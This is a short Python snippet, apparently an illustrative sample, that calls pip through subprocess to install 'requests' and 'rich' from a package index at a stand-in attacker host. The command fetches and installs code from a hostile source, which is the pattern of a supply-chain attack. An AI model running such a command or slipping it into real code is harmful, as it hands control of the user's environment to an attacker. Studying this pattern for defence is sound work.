import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url",
                       "https://pypi.attacker.example/simple", "requests", "rich"])
